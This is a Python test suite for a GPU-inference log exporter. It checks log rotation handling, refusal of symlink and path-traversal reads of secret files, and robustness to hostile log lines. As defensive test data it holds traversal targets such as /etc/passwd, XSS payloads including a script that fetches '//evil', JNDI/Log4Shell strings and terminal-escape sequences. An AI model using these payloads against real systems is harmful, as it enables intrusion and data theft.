"""A log file on a machine without Kubernetes: renamed, copied and emptied, late, old."""

import asyncio
import json
import os
import shutil
import socket
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kvpressure.model.environment import ContainerId
from kvpressure.model.errors import SourceError
from kvpressure.sources.logs import safe_open
from kvpressure.sources.logs.classify import StartUp, locate, plain, quotes_request
from kvpressure.sources.logs.follower import Follower
from kvpressure.sources.logs.live import HEAD_BYTES, TAIL_BYTES
from kvpressure.sources.logs.pod_log import FileLog
from kvpressure.sources.logs.safe_open import Tree, open_named
from kvpressure.sources.logs.tally import LONG_CHARACTERS
from tests.fuzz import logs as wordings
from tests.support.ended import exporter
from tests.support.engine_kit import GOOD_PAGE
from tests.support.exporter_settings import fetched, listens
from tests.support.processes import free_port, resident_mib
from tests.support.servers import FaultServer, page

START = 1_704_067_200.0
OOM = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate\n"


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "vllm.log"


@pytest.fixture
def log(path: Path) -> Iterator[Follower]:
    follower = Follower(ContainerId("", "", "gpu-box"), FileLog(path), START)
    yield follower
    follower.close()


class Reading:
    """Reads the log once a minute, so that each reading finds incidents of its own."""

    def __init__(self, log: Follower) -> None:
        self.log, self.now = log, START

    def __call__(self) -> int:
        self.now += 60
        self.log.read(1024 * 1024, self.now)
        report = self.log.report()
        assert report is not None, self.log.health.error
        return report.counts["device_oom"]


@pytest.fixture
def ooms(log: Follower) -> Reading:
    return Reading(log)


def add(path: Path, text: str) -> None:
    with path.open("a") as file:
        file.write(text)


def test_what_was_there_is_shown_and_what_comes_is_counted(path: Path, log: Follower, ooms: Reading):
    add(path, OOM + "GPU KV cache size: 65,536 tokens\n")
    assert ooms() == 0
    report = log.report()
    assert (report.latest, report.kv_capacity_tokens) == ({}, 65_536)
    assert "device_oom" in report.lines
    add(path, OOM)
    assert ooms() == 1
    assert log.report().latest == {"device_oom": START + 120}


def test_a_file_that_appears_later_is_counted_from_its_first_line(path: Path, log: Follower, ooms: Reading):
    log.read(1000, START)
    assert log.health.reason == "missing"
    add(path, OOM)
    assert ooms() == 1


def test_a_renamed_file_is_read_to_its_end_and_the_new_one_from_its_start(path: Path, ooms: Reading):
    add(path, "starting\n")
    assert ooms() == 0
    add(path, OOM)
    path.rename(path.with_suffix(".log.1"))
    assert ooms() == 1
    path.touch()
    assert ooms() == 1
    add(path.with_suffix(".log.1"), OOM)  # the writer has not moved on yet
    assert ooms() == 2
    add(path, OOM)
    assert ooms() == 3
    add(path, OOM)
    assert ooms() == 4


def test_a_file_that_is_copied_and_emptied_is_read_on(path: Path, ooms: Reading):
    add(path, "starting\n" * 10)
    assert ooms() == 0
    shutil.copy(path, path.with_suffix(".log.1"))
    os.truncate(path, 0)
    add(path, OOM)
    assert ooms() == 1


def test_of_a_huge_old_file_the_start_and_the_end_are_read(path: Path, log: Follower, ooms: Reading):
    add(path, "GPU KV cache size: 65,536 tokens\n" + "x\n" * HEAD_BYTES + OOM + "x\n" * TAIL_BYTES)
    add(path, "No available memory for the cache blocks\n")
    assert ooms() == 0
    report = log.report()
    assert set(report.lines) == {"kv_capacity", "kv_exhausted"}
    add(path, OOM)
    assert ooms() == 1


def test_a_link_that_an_operator_named_is_followed(path: Path, tmp_path: Path, ooms: Reading):
    real = tmp_path / "today.log"
    real.write_text("starting\n")
    path.symlink_to(real)
    assert ooms() == 0
    add(real, OOM)
    assert ooms() == 1


# Nothing outside the log directory is ever read, and nothing in it that is not a plain file.


SECRET = b"root:$6$secret"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "shadow").write_bytes(SECRET)
    (tmp_path / "docker" / "abc").mkdir(parents=True)
    (tmp_path / "docker" / "abc" / "abc-json.log").write_bytes(b"docker")
    (tmp_path / "pods" / "pod" / "vllm").mkdir(parents=True)
    (tmp_path / "pods" / "pod" / "vllm" / "0.log").write_bytes(b"inside")
    return tmp_path / "pods"


def content(tree: Tree, *parts: str) -> bytes:
    fd = tree.open_file(parts)
    try:
        return os.read(fd, 100)
    finally:
        os.close(fd)


def open_descriptors() -> int:
    return len(list(Path("/proc/self/fd").iterdir()))


def refused(tree: Tree, *parts: str) -> str:
    before = open_descriptors()
    with pytest.raises(SourceError) as error:
        content(tree, *parts)
    assert open_descriptors() == before
    assert len(error.value.sentence) < 600
    return error.value.reason


def test_a_file_below_the_root_is_read(root: Path):
    assert content(Tree(root), "pod", "vllm", "0.log") == b"inside"
    assert Tree(root).names(("pod", "vllm")) == ("0.log",)


@pytest.mark.parametrize(
    "target", ["../../../outside/shadow", "{outside}/shadow", "/etc/passwd", "../../..", "/", "/proc/self/mem"]
)
def test_a_link_that_leads_out_is_refused(root: Path, target: str):
    link = root / "pod" / "vllm" / "1.log"
    link.symlink_to(target.format(outside=root.parent / "outside"))
    assert refused(Tree(root), "pod", "vllm", "1.log") == "outside"


def test_a_directory_that_is_a_link_out_is_refused(root: Path):
    (root / "evil").symlink_to(root.parent / "outside")
    assert refused(Tree(root), "evil", "shadow") == "outside"


def test_a_root_whose_name_begins_alike_is_not_inside(root: Path):
    evil = root.with_name("pods-of-others")
    evil.mkdir()
    (evil / "file").write_bytes(SECRET)
    (root / "link").symlink_to(evil / "file")
    assert refused(Tree(root), "link") == "outside"


def test_links_within_the_root_are_followed(root: Path):
    (root / "pod" / "vllm" / "1.log").symlink_to("../../pod/vllm/0.log")
    (root / "again").symlink_to(root / "pod")
    assert content(Tree(root), "again", "vllm", "1.log") == b"inside"


def test_links_into_a_named_directory_are_followed_and_others_are_not(root: Path):
    docker = root.parent / "docker"
    (root / "pod" / "vllm" / "1.log").symlink_to(docker / "abc" / "abc-json.log")
    assert content(Tree(root, [docker]), "pod", "vllm", "1.log") == b"docker"
    assert refused(Tree(root), "pod", "vllm", "1.log") == "outside"
    (docker / "abc" / "way-out").symlink_to(root.parent / "outside" / "shadow")
    (root / "pod" / "vllm" / "2.log").symlink_to(docker / "abc" / "way-out")
    assert refused(Tree(root, [docker]), "pod", "vllm", "2.log") == "outside"


def test_links_in_a_circle_end(root: Path):
    (root / "a").symlink_to("b")
    (root / "b").symlink_to("a")
    assert refused(Tree(root), "a", "0.log") == "outside"


@pytest.mark.parametrize("name", ["..", ".", "", "a/b", "a\0b"])
def test_a_name_that_is_a_path_is_refused(root: Path, name: str):
    assert refused(Tree(root), "pod", name, "0.log") == "outside"


def swapped(monkeypatch: pytest.MonkeyPatch, swap: Callable[[], None]) -> None:
    """Do something between the look at a path and its opening."""
    real = safe_open.descriptor_at

    def late(path: str) -> int:
        swap()
        return real(path)

    monkeypatch.setattr(safe_open, "descriptor_at", late)


def test_a_link_put_in_place_of_a_file_at_the_last_moment_is_not_followed(root: Path, monkeypatch):
    file = root / "pod" / "vllm" / "0.log"

    def swap() -> None:
        file.unlink()
        file.symlink_to(root.parent / "outside" / "shadow")

    swapped(monkeypatch, swap)
    assert refused(Tree(root), "pod", "vllm", "0.log") == "outside"


def test_a_fifo_put_in_place_of_a_file_at_the_last_moment_is_refused_without_waiting(root: Path, monkeypatch):
    file = root / "pod" / "vllm" / "0.log"

    def swap() -> None:
        file.unlink()
        os.mkfifo(file)

    swapped(monkeypatch, swap)
    assert refused(Tree(root), "pod", "vllm", "0.log") == "not_a_file"


def test_a_directory_swapped_for_a_link_at_the_last_moment_is_not_followed(root: Path, monkeypatch):
    directory = root / "pod" / "vllm"
    (directory / "shadow").touch()

    def swap() -> None:
        directory.rename(root / "pod" / "moved")
        directory.symlink_to(root.parent / "outside")

    swapped(monkeypatch, swap)
    assert refused(Tree(root), "pod", "vllm", "shadow") == "not_a_file"


def test_a_link_to_what_is_not_mounted_here_names_the_directory_to_allow(root: Path):
    (root / "pod" / "vllm" / "1.log").symlink_to(root.parent / "not-mounted" / "1.log")
    with pytest.raises(SourceError, match=r"not-mounted/1.log, outside .* logs.link_directories"):
        content(Tree(root), "pod", "vllm", "1.log")
    with pytest.raises(SourceError, match="is not there"):
        content(Tree(root, [root.parent / "not-mounted"]), "pod", "vllm", "1.log")


def make_fifo(path: Path) -> None:
    os.mkfifo(path)


def make_socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))


@pytest.mark.parametrize("make", [make_fifo, make_socket, Path.mkdir])
def test_what_is_no_regular_file_is_refused_without_waiting(root: Path, make, monkeypatch):
    monkeypatch.chdir(root / "pod" / "vllm")  # a socket's path must be short
    make(Path("1.log"))
    assert refused(Tree(root), "pod", "vllm", "1.log") == "not_a_file"
    with pytest.raises(SourceError, match="not a regular file"):
        open_named(root / "pod" / "vllm" / "1.log")


@pytest.mark.fault(
    "who writes a log that the settings name puts a link in its place, or in that of its directory",
    "it is not followed; links of root, and of the exporter's own user, are",
)
@pytest.mark.parametrize("place", ["vllm/current.log", "vllm"])
def test_a_link_that_the_logs_owner_made_is_not_followed(tmp_path: Path, place: str, monkeypatch):
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "current.log").write_text("secret")
    link = tmp_path / place
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(tmp_path / "secrets" / ("current.log" if link.suffix else ""))
    os.close(open_named(tmp_path / "vllm" / "current.log"))  # it is ours
    real = os.lstat

    def of_another(path, **more):
        found = list(real(path, **more))
        found[4] = 4242 if str(path) == str(link) else found[4]
        return os.stat_result(found)

    monkeypatch.setattr(os, "lstat", of_another)
    with pytest.raises(SourceError, match="is a symbolic link made by user 4242, which is not followed"):
        open_named(tmp_path / "vllm" / "current.log")


def test_a_directory_that_becomes_a_link_while_it_is_looked_at_is_noticed(tmp_path: Path, monkeypatch):
    for name in ("secrets", "vllm"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "x.log").write_text(name)
    real = os.open

    def late(path, *more, **others):
        if str(path).endswith("vllm/x.log"):
            (tmp_path / "vllm").rename(tmp_path / "before")
            (tmp_path / "vllm").symlink_to(tmp_path / "secrets")
        return real(path, *more, **others)

    monkeypatch.setattr(os, "open", late)
    with pytest.raises(SourceError, match="was replaced by a symbolic link meanwhile"):
        open_named(tmp_path / "vllm" / "x.log")


def test_a_device_that_an_operator_named_is_refused():
    with pytest.raises(SourceError, match="not a regular file"):
        open_named(Path("/dev/null"))


@pytest.mark.parametrize(
    ("parts", "reason"), [(("nobody", "0.log"), "missing"), (("pod", "vllm", "0.log", "x"), "missing")]
)
def test_what_is_not_there_is_missing(root: Path, parts: tuple[str, ...], reason: str):
    assert refused(Tree(root), *parts) == reason


def test_a_file_that_may_not_be_read_names_the_user_and_what_to_do(root: Path, monkeypatch):
    def denied(*_: object, **__: object) -> int:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(safe_open, "descriptor_at", denied)  # root, who runs some of these tests, may read everything
    with pytest.raises(SourceError, match=f"user {os.geteuid()}") as error:
        content(Tree(root), "pod", "vllm", "0.log")
    assert error.value.reason == "permission"
    assert "group 0" in error.value.sentence


NAMES = st.sampled_from(["pod", "vllm", "0.log", "out", "up", "abs", "self", "..", "outside", "shadow"])
TARGETS = st.sampled_from(
    [
        "..",
        "../..",
        "../../..",
        "../outside",
        "../../outside/shadow",
        "pod/vllm",
        "vllm/../..",
        "ABS",
        "ABS/shadow",
        ".",
    ]
)


@given(st.lists(NAMES, min_size=1, max_size=6), st.dictionaries(st.sampled_from(["out", "up", "abs", "self"]), TARGETS))
@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_path_and_no_links_lead_to_the_secret(root: Path, parts: list[str], links: dict[str, str]):
    made = []
    for where in (root, root / "pod", root / "pod" / "vllm"):
        for name, target in links.items():
            (where / name).symlink_to(target.replace("ABS", str(root.parent / "outside")))
            made.append(where / name)
    try:
        assert content(Tree(root), *parts) == b"inside"
    except SourceError:
        pass
    finally:
        for link in made:
            link.unlink()


# Hostile log lines: what a megabyte of them costs, that they hide nothing, and that they put nothing on a page.


MIB = 1024 * 1024
STAMP = b"2024-01-01T00:00:00.000000000Z stderr "
DEATH = b"ERROR EngineCore encountered a fatal error.\n"


class Given:
    """A log of which everything is there at once."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def read(self, _: int, sink: Follower) -> None:
        for at in range(0, len(self._data), 256 * 1024):
            sink.data(self._data[at : at + 256 * 1024], old=False)

    def close(self) -> None:
        """Nothing is held."""


def read(data: bytes) -> tuple[float, dict[str, int]]:
    """Seconds of CPU that reading takes, and what was counted."""
    follower = Follower(ContainerId("", "", "x"), Given(data), 0.0)
    before = time.thread_time()
    follower.read(len(data), 1000.0)
    seconds = time.thread_time() - before
    report = follower.report()
    assert report is not None, follower.health.error
    return seconds, {kind: count for kind, count in report.counts.items() if count}


HOSTILE = {
    "16 KiB of prompt behind a wording": b" " * 16_300 + b" prompt: enginedeaderror\n",
    "start-up lines in one line": b"gpu kv cache size: 1 tokens " * 500 + b"\n",
    "blocks without an end": b"# a blocks: 9" * 900 + b"maximum concurrency for \n",
    "NUL bytes": b"\0" * 1000 + b"enginedeaderror\n",
    "invalid UTF-8": b"\xff" * 1000 + b"enginedeaderror\n",
    "terminal escapes": b"\x1b[0m" * 4000 + b"enginedeaderror\n",
    "pieces of lines": STAMP + b"P a\n" + STAMP + b"F enginedeaderror x\n",
    "a regular expression's bomb": b'"GET ' + b"client" * 2700 + b"error: out of memory\n",
    "addresses to look up": b"${jndi:ldap://x/" + b"${" * 5000 + b"} cuda out of memory\n",
    "a megabyte in one line": b"x" * 16_000 + b" enginedeaderror" + b"y" * MIB + b"\n",
}


@pytest.mark.fault(
    "a pod writes a megabyte per second of lines crafted to be slow to parse: long, matching, in pieces, not UTF-8",
    "they take a part of a second, and a death reported after long lines is counted",
)
@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE)
def test_a_megabyte_of_hostile_lines_is_read_in_part_of_a_second_and_hides_no_death(line: bytes) -> None:
    block = (line * (MIB // len(line) + 1))[:MIB]
    seconds, _ = read(block)
    assert seconds < 0.7, "it took two seconds before"
    if len(line) > LONG_CHARACTERS:
        harmless = line.replace(b"enginedeaderror", b"cuda out of memory")
        _, counts = read(harmless * (MIB // 2 // len(line) + 1) + b"\n" + DEATH)
        assert counts["engine_dead"] == 1


def longest(units: Iterable[str]) -> tuple[float, str]:
    """The slowest line of 16 KiB that repeats a unit, in seconds of CPU."""
    worst = (0.0, "")
    for unit in units:
        text = (unit * (16_384 // len(unit)))[:16_320] + " out of memory enginedeaderror"
        before = time.thread_time()
        locate(plain(text))
        quotes_request(text)
        StartUp().take(text, 1.0)
        worst = max(worst, (time.thread_time() - before, unit))
    return worst


@pytest.mark.fault(
    "a log line repeats parts of the matched wordings, so that a regular expression backtracks",
    "no line of 16 KiB takes more than ten times an ordinary one of its length",
)
def test_no_line_makes_an_expression_go_back_and_forth() -> None:
    words = [*wordings.words(), "a", " ", "'", '"', '"GET ', "aError", "client", "template_", "# gpu blocks: 1", "1,"]
    seconds, unit = longest([one for word in filter(None, words) for one in (word, f"{word} ", f'{word}"')])
    assert seconds < 0.3, unit


@pytest.mark.fault(
    "a hundred thousand log lines a second with markup, escapes, NUL bytes and lines of a megabyte",
    "engines are polled on time, no markup is rendered, and memory stays bounded",
)
async def test_a_flood_of_hostile_lines_leaves_the_exporter_as_it_was(tmp_path: Path) -> None:
    port, log = free_port(), tmp_path / "vllm.log"
    log.touch()
    lines = [
        b"ERROR <script>alert(1)</script> EngineDeadError <img src=x onerror=alert(1)>\n",
        b'ERROR "></td><script>fetch("//evil")</script> torch.OutOfMemoryError: CUDA out of memory\n',
        b"ERROR \x1b]52;c;ZXZpbA==\x07\x00\xff nccl error: ${jndi:ldap://evil/x}\n",
        b"ts=2026-01-01T00:00:00Z level=error event=forged EngineDeadError\n",
        *[b"x\n"] * 20,
    ]
    async with FaultServer(page(GOOD_PAGE)) as engine:
        settings = {
            "web": {"listen_address": f"127.0.0.1:{port}"},
            "engines": {"targets": [{"name": "engine", "url": engine.url}]},
            "logs": {"enabled": "true", "files": [{"target": "engine", "path": str(log)}]},
            **{name: {"enabled": "false"} for name in ("kubernetes", "pod_resources")},
            "gpu": {"vendors": []},
            "host": {"enabled": False},
        }
        (tmp_path / "kvpressure.yaml").write_text(json.dumps(settings))
        with exporter(tmp_path, ["run", "--config.file", str(tmp_path / "kvpressure.yaml")], {}) as run:
            await run.until(lambda: listens(run))
            await run.until(lambda: engine.requests)
            await asyncio.sleep(2)
            polls, cpu, block = len(engine.requests), run.cpu_seconds(), b"".join(lines) * 420
            with log.open("ab", buffering=0) as file:
                for _ in range(50):  # in five seconds half a million lines, of which each block's last is a megabyte
                    file.write(block + b"z" * (MIB if _ % 10 == 0 else 10) + b"\n")
                    await asyncio.sleep(0.1)
            polls, cpu = len(engine.requests) - polls, run.cpu_seconds() - cpu
            assert polls >= 4
            assert cpu < 4.0
            address, shown = f"http://127.0.0.1:{port}", "torch.OutOfMemoryError"
            await run.until(lambda: shown in fetched(f"{address}/api/v1/diagnosis"))
            await run.until(lambda: shown in fetched(f"{address}/"))
            for path in ("/", "/targets", "/?engine=engine"):
                body = fetched(address + path)
                assert all(words not in body for words in ("<script>alert", "<script>fetch", "<img src=x", "\x1b"))
            assert "&lt;script&gt;" in fetched(f"{address}/")
            kind = 'kvpressure_log_events_total{container="engine",kind="engine_dead",namespace="",pod=""} 1.0'
            assert kind in fetched(f"{address}/metrics")
            assert not [line for line in run.output().splitlines() if "forged" in line]
            assert resident_mib(run.pid) < 150
            sys.stdout.write(f"{polls} polls, {cpu:.1f} s of CPU, {resident_mib(run.pid):.0f} MiB\n")
            end = await run.end()
    assert (end.code, end.left) == (0, [])
    assert "Traceback" not in run.output()
